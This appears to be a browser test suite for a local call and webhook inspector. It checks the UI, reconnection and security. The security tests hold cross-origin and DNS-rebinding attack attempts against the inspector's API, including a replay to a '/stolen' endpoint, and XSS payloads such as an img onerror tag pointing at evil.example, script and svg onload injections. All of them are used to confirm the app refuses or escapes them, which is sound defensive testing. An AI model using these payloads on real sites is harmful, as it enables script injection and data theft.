// The page of chirp inspect in a real Chromium: what a person does, what a hostile page or caller tries.
// usage: node --test inspect.mjs       (Debian package: chromium; `npm ci` beforehand)
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, readdirSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { SECRET, Stage, until } from "./stage.mjs";

const HERE = fileURLToPath(new URL(".", import.meta.url));
const AXE = readFileSync(join(HERE, "node_modules/axe-core/axe.min.js"), "utf8");
const RULES = `
[[rule]]
on = "calls.initiated"
from = "+15559876543"
do = "answer"
then = ["start_recording"]
`;

/** Runs `work` with a stage that ends in any case. */
async function staged(options, work) {
  const stage = new Stage();
  try {
    await stage.all(options);
    await work(stage);
  } finally {
    await stage.end();
  }
}

/** A page that keeps what goes wrong in it: console errors, requests elsewhere, dialogs, bodies with a secret. */
async function opened(stage, context, size = { width: 1360, height: 780 }) {
  const page = await context.newPage();
  await page.setViewportSize(size);
  const wrong = [], own = new URL(stage.inspect.url).origin;
  page.on("console", (message) => ["error", "warning"].includes(message.type()) && wrong.push(message.text()));
  page.on("pageerror", (error) => wrong.push(String(error)));
  page.on("dialog", (dialog) => { wrong.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
  page.on("request", (request) => request.url().startsWith(own) || /^(blob|data):/.test(request.url()) || wrong.push(`request to ${request.url()}`));
  page.on("response", async (response) => {
    if (!/json|text/.test(response.headers()["content-type"] ?? "") || /stream/.test(response.headers()["content-type"])) return;
    const body = await response.text().catch(() => "");
    for (const secret of [SECRET, stage.sandbox?.apiKey]) if (secret && body.includes(secret)) wrong.push(`a secret in ${response.url()}`);
  });
  await page.goto(stage.inspect.url);
  await page.locator("body[data-ready]").waitFor();
  return { page, wrong };
}

/** What axe finds serious on the page as it is. */
async function serious(page) {
  await page.evaluate(AXE);
  const { violations } = await page.evaluate(() => globalThis.axe.run());
  return violations.filter(({ impact }) => ["serious", "critical"].includes(impact)).map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).slice(0, 3).join(" | ")}`);
}

const seqs = async (stage) => (await stage.run(["events", "list", "--all", "-o", "jsonl"])).trim().split("\n").filter(Boolean).map((line) => JSON.parse(line).seq).sort((a, b) => a - b);

test("a call appears, is answered, shows its ladder and recording, and is replayed with an edit", () => staged({ failsFirst: true, respond: RULES, speed: "2x" }, async (stage) => {
  const browser = await stage.browser("--autoplay-policy=no-user-gesture-required");
  const { page, wrong } = await opened(stage, await browser.newContext());
  await page.getByText("No calls yet").waitFor();
  assert.deepEqual(await serious(page), [], "the empty page");

  await stage.run(["simulate", "call", "--from", "+15552229999"]);
  const simulated = Date.now();
  const card = page.locator(".card", { hasText: "+15552229999" });
  await card.getByText(/ringing, \d+ s to answer/).waitFor();
  assert.ok(Date.now() - simulated < 1000, `on screen after ${Date.now() - simulated} ms`);
  const id = await card.getAttribute("data-call");
  assert.deepEqual(await serious(page), [], "a ringing call");
  await card.getByRole("button", { name: "Answer" }).click();
  await page.getByText("answer: accepted").waitFor();
  await until(async () => JSON.parse(await stage.run(["calls", "get", id, "--json"])).status === "in_progress", "answered in the sandbox");
  await card.getByText(/in progress/).waitFor();

  await stage.run(["simulate", "call", "--from", "+15559876543", "--hangup-after", "3s"]);
  await page.getByRole("button", { name: "+15559876543 →" }).click();
  await page.locator(".player[data-ready]").waitFor({ timeout: 30000 });
  const ladder = (await page.locator(".ladder .row").allInnerTexts()).join("\n");
  for (const words of ["initiated", "answer · accepted", "answered · 200", "recording.completed", "saved call_rec"]) assert.ok(ladder.includes(words), `${words} in ${ladder}`);
  const audio = page.locator("audio");
  await until(() => audio.evaluate((one) => one.duration > 3), "audio of some seconds");
  await audio.evaluate((one) => one.play());
  await until(() => audio.evaluate((one) => one.currentTime > 0.2), "audio plays");
  const ink = await page.locator("canvas").evaluate((one) => new Set(one.getContext("2d").getImageData(0, 0, one.width, one.height).data).size);
  assert.ok(ink > 5, "the waveform is drawn");

  await page.locator(".row", { hasText: "initiated" }).first().click();
  await page.locator("#detail h2", { hasText: "calls.initiated" }).waitFor();
  assert.match(page.url(), /call=call_test_\w+&entry=\d+/, "the view has a link");
  await page.getByLabel("Search in the body").fill("+1555987");
  await page.locator("mark").first().waitFor();
  for (const tab of ["Headers", "Raw", "curl", "Related", "Body"]) {
    await page.getByRole("tab", { name: tab }).click();
    assert.deepEqual(await serious(page), [], tab);
  }
  await page.locator("#detail h2").click();
  await page.keyboard.press("e");
  const body = page.locator("#body");
  await body.fill((await body.inputValue()).replace("pstn", "whatsapp"));
  await page.locator(".diff .add", { hasText: "whatsapp" }).waitFor();
  assert.deepEqual(await serious(page), [], "the replay dialog");
  const before = stage.target.received.length;
  await page.locator("#send").click();
  await page.locator("#result", { hasText: "200 in" }).waitFor();
  const replayed = stage.target.received[before];
  assert.ok(replayed.body.includes("whatsapp"), replayed.body);
  assert.equal(replayed.headers["x-webhook-secret"], SECRET);
  await page.keyboard.press("Escape");

  const retried = page.locator(".card", { hasText: "+15552229999" });
  await retried.locator(".open").click();
  await page.locator(".row", { hasText: "· 500 ·" }).waitFor();
  await page.locator(".row", { hasText: "try 2" }).waitFor();
  await page.keyboard.press("2");
  await page.locator(".entry").first().waitFor();
  assert.deepEqual(await serious(page), [], "the journal");
  await page.locator("#query").fill("type:forward_failed");
  await page.keyboard.press("Enter");
  await until(async () => (await page.locator(".entry").count()) === 1, "one entry fits the filter");
  await page.setViewportSize({ width: 400, height: 800 });
  for (const scheme of ["dark", "light"]) {
    await page.emulateMedia({ colorScheme: scheme });
    assert.deepEqual(await serious(page), [], `400 pixels, ${scheme}`);
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "nothing is wider than the screen");
  }
  assert.deepEqual(wrong, []);
}));

test("the page reconnects after a restart and neither loses nor doubles an entry", () => staged({}, async (stage) => {
  const { page } = await opened(stage, await (await stage.browser()).newContext());
  const port = new URL(stage.inspect.url).port;
  for (const round of [1, 2]) {
    await stage.run(["simulate", "call", "--from", `+155500010${round}1`]);
    await stage.stop(stage.inspect);
    await page.locator("#live", { hasText: "reconnecting" }).waitFor();
    await stage.run(["simulate", "call", "--from", `+155500010${round}2`]);
    stage.inspect = await stage.start(["inspect", "--port", port]);
    await page.locator("#live.on").waitFor();
    await page.locator(".card", { hasText: `+155500010${round}2` }).waitFor();
    await stage.run(["simulate", "call", "--from", `+155500010${round}3`]);
    await page.locator(".card", { hasText: `+155500010${round}3` }).waitFor();
  }
  const shown = () => page.evaluate(async () => (await import("/journal.js")).all().map((line) => line.seq));
  await until(async () => (await shown()).at(-1) === (await seqs(stage)).at(-1), "the newest entry");
  assert.deepEqual(await shown(), await seqs(stage));
}));

const ATTEMPTS = `
const report = [];
const tried = async (name, work) => { try { report.push([name, await work()]); } catch (error) { report.push([name, "refused: " + error.name]); } };
const read = (path, options) => fetch(TARGET + path, options).then(async (answer) => answer.status + " " + (await answer.text()).slice(0, 200));
const post = { method: "POST", body: '{"type":"answer"}', credentials: "include" };
const element = (tag, path) => new Promise((done) => { const one = document.createElement(tag); one.onload = () => done("loaded"); one.onerror = () => done("refused"); one.src = TARGET + path; document.body.append(one); setTimeout(() => done("silent"), 2000); });
const all = async () => {
  await tried("read", () => read("/api/entries"));
  await tried("read with credentials", () => read("/api/entries", { credentials: "include" }));
  await tried("no-cors", () => read("/api/entries", { mode: "no-cors", credentials: "include" }));
  await tried("link", () => read("/?token=" + TOKEN, { mode: "no-cors", credentials: "include" }));
  await tried("command, text", () => read("/api/calls/call_1/commands", { ...post, mode: "no-cors" }));
  await tried("command, json", () => read("/api/calls/call_1/commands", { ...post, headers: { "Content-Type": "application/json" } }));
  await tried("replay", () => read("/api/entries/1/replay", { ...post, body: '{"to":"' + location.origin + '/stolen"}', mode: "no-cors" }));
  await tried("stream", () => new Promise((done) => { const source = new EventSource(TARGET + "/api/stream?after=0", { withCredentials: true }); source.onmessage = (m) => done("200 " + m.data); source.onerror = () => { source.close(); done("refused"); }; }));
  await tried("socket", () => new Promise((done) => { const socket = new WebSocket(TARGET.replace("http", "ws") + "/api/stream"); socket.onopen = () => done("200 open"); socket.onerror = () => done("refused"); }));
  for (const [tag, path] of [["script", "/app.js"], ["img", "/icon.svg"], ["audio", "/api/media/call_rec_1"]]) await tried(tag, () => element(tag, path));
  return report;
};`;

test("a page on another port, and one on a rebound name, read nothing and send nothing", () => staged({}, async (stage) => {
  const browser = await stage.browser("--host-resolver-rules=MAP rebound.test 127.0.0.1", "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests");
  const context = await browser.newContext();
  await opened(stage, context);
  await stage.run(["simulate", "call", "--from", "+15552229999"]);
  const { port, searchParams } = new URL(stage.inspect.url);
  const stolen = [];
  const other = createServer((request, response) => {
    if (request.url === "/stolen") stolen.push(request.url);
    response.setHeader("Content-Type", "text/html");
    response.end("<!doctype html><body>");
  });
  await new Promise((done) => other.listen(0, "127.0.0.1", done));
  // The rebound page has the inspector's own port: for the browser its requests are of the same origin.
  await context.route("**/attack", (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><body>" }));
  const pages = [[`http://127.0.0.1:${other.address().port}/`, `http://127.0.0.1:${port}`], [`http://localhost:${other.address().port}/`, `http://localhost:${port}`], [`http://rebound.test:${port}/attack`, `http://rebound.test:${port}`]];
  for (const [from, target] of pages) {
    const page = await context.newPage();
    const answers = [];
    // Below the browser's own rules: also the answers that it keeps from the page.
    const network = await context.newCDPSession(page);
    await network.send("Network.enable");
    await page.goto(from);
    network.on("Network.responseReceivedExtraInfo", ({ statusCode }) => answers.push(statusCode));
    const report = await page.evaluate(`const TARGET = ${JSON.stringify(target)}, TOKEN = ${JSON.stringify(searchParams.get("token"))};${ATTEMPTS}all()`);
    assert.equal(report.length, 12, JSON.stringify(report));
    for (const [name, result] of report) assert.ok(!/^(2\d\d|loaded)/.test(result) && !result.includes("call"), `${from} ${name}: ${result}`);
    assert.ok(answers.length >= 9, `${from}: the attempts arrived: ${answers}`);
    for (const status of answers) assert.ok([401, 403, 421].includes(status), `${from}: ${answers}`);
    await page.close();
  }
  assert.deepEqual(stolen, []);
  const commands = await stage.run(["events", "list", "--type", "command,command_failed", "-o", "jsonl"]);
  assert.equal(commands.trim(), "");
  const call = JSON.parse((await stage.run(["calls", "list", "--json"]))).data[0];
  assert.notEqual(call.status, "in_progress", "nobody answered");
  other.close();
}));

/** The hostile text of the terminal's test, and what means something in HTML. */
function hostile() {
  const script = "import ast,json,sys;t=ast.parse(open(sys.argv[1]).read());print(json.dumps(next(ast.literal_eval(n.value) for n in t.body if isinstance(n,ast.Assign) and n.targets[0].id=='HOSTILE')))";
  const text = JSON.parse(execFileSync("python3", ["-c", script, join(HERE, "../durability/screen.py")]));
  const markup = `"'><img src=http://evil.example/x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)" style="position:fixed">&lt;b&gt;\${7*7}{{7*7}}]]>--></style></title></pre></textarea><svg onload=alert(4)>`;
  return markup + text;
}

/** Paths of every string in a value. */
function strings(value, path = []) {
  if (typeof value === "string") return [path];
  if (value && typeof value === "object") return Object.keys(value).flatMap((key) => strings(value[key], [...path, key]));
  return [];
}

const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\u{e0000}-\u{e0fff}]/u;

/** Elements, attributes and text that only a caller can have made. */
const found = () => {
  const odd = [];
  for (const element of document.querySelectorAll("*")) {
    if (["IMG", "IFRAME", "OBJECT", "EMBED", "SVG", "BASE", "svg"].includes(element.tagName)) odd.push(element.outerHTML.slice(0, 100));
    if (element.tagName === "SCRIPT" && element.getAttribute("src") !== "/app.js") odd.push(element.outerHTML.slice(0, 100));
    if (element.tagName === "A" && !/^(\/api\/calls\/|#e\d+$)/.test(element.getAttribute("href"))) odd.push(element.outerHTML.slice(0, 100));
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || (name === "style" && /url|position/.test(value))) odd.push(`${element.tagName} ${name}`);
    }
  }
  return odd;
};

test("hostile text from every field is text, on the page and in the exported file", () => staged({}, async (stage) => {
  const text = hostile(), folder = join(HERE, "../it/fixtures");
  const context = await (await stage.browser()).newContext({ acceptDownloads: true });
  const { page, wrong } = await opened(stage, context);
  let count = 0;
  for (const file of readdirSync(folder).filter((name) => name.endsWith(".json"))) {
    const sample = JSON.parse(readFileSync(join(folder, file)));
    for (const path of strings(sample)) {
      const event = structuredClone(sample), key = path.at(-1), holder = path.slice(0, -1).reduce((value, key) => value[key], event);
      if (path[0] !== "eventId") event.eventId = `evt_${++count}`;
      holder[key] = key === "id" ? `${text}${count}` : text;
      if (path.join(".") !== "data.call.id" && event.data?.call) event.data.call.id = `call_hostile_${count % 3}`;
      event.data[text] = { [text]: text };
      const headers = { "Content-Type": "application/json", "X-Webhook-Secret": SECRET, "X-Odd": "<img src=x onerror=alert(5)>" };
      const answer = await fetch(stage.listener.url, { method: "POST", headers, body: JSON.stringify(event) });
      assert.equal(answer.status, 200);
    }
  }
  const clean = async (what) => {
    assert.deepEqual(await page.evaluate(found), [], what);
    const shown = await page.evaluate(() => document.body.innerText);
    assert.ok(!HIDDEN.test(shown), `${what}: ${JSON.stringify(shown.match(HIDDEN)?.[0])} in ${JSON.stringify(shown.slice(Math.max(0, shown.search(HIDDEN) - 60)).slice(0, 120))}`);
  };
  await until(async () => (await page.locator(".card").count()) >= 3, "the calls are listed");
  await clean("the calls");
  for (const card of await page.locator(".card .open").all()) {
    await card.click();
    await page.locator("#call .row").first().waitFor();
    await clean("a call");
  }
  await page.keyboard.press("2");
  for (let at = 0; at < 12; at++) {
    await page.keyboard.press("j");
    await page.locator("#content").waitFor();
    for (const tab of ["Headers", "Raw", "curl", "Related", "Body"]) {
      await page.getByRole("tab", { name: tab, exact: true }).click();
      await clean(tab);
    }
  }
  const file = join(stage.home, "call.html");
  for (const call of ["call_hostile_0", "call_hostile_1"]) {
    await stage.run(["calls", "timeline", call, "--html", file]);
    const requests = [];
    page.removeAllListeners("request");
    page.on("request", (request) => requests.push(request.url()));
    await page.goto(`file://${file}`);
    assert.deepEqual(requests, [`file://${file}`]);
    await page.evaluate(() => document.querySelectorAll("details").forEach((one) => (one.open = true)));
    await clean("the exported file");
    assert.equal(await page.evaluate(() => document.querySelectorAll("script").length), 0);
    assert.deepEqual(await serious(page), [], "the exported file");
  }
  // Recordings of these events do not exist, which Chromium logs.
  assert.deepEqual(wrong.filter((text) => !/status of 40[04]/.test(text)), []);
}));
